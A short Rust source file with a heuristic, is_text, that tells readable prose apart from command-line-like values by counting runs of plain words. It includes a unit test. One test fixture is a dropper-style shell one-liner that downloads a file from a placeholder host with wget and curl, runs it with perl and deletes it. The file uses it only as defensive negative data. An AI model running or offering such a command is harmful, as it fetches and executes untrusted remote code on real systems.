//! Whether a value is a text that people read: an article may quote a command, a parameter may not.

/// Runs of three plain words that make a text.
const RUNS: usize = 9;

/// Counts places where three plain words follow one another, each by one blank: letters of any script, with the
/// punctuation that ends a word in a sentence.
pub fn is_text(bytes: &[u8]) -> bool {
    if bytes.len() < 120 {
        return false;
    }
    let (mut row, mut runs) = (0usize, 0usize);
    for word in bytes.split(|byte| matches!(byte, b' ' | b'\n')) {
        let trimmed = word
            .strip_suffix(b",")
            .or_else(|| word.strip_suffix(b"."))
            .unwrap_or(word);
        let plain = trimmed.len() > 1
            && trimmed
                .iter()
                .all(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80 || *byte == b'\'');
        row = if plain { row + 1 } else { 0 };
        runs += usize::from(row >= 3);
        if runs >= RUNS {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn articles_are_texts_and_command_lines_are_not() {
        assert!(is_text(
            b"To list the files of a folder you may want to run the `ls -l` command, which is what most people do when they look around."
        ));
        assert!(!is_text(
            b"cd /tmp;wget http://h.example/x.png -O p.txt;curl -O http://h.example/x.png;mv x.png p.txt;perl p.txt;rm -rf p.txt;echo done and done"
        ));
    }
}
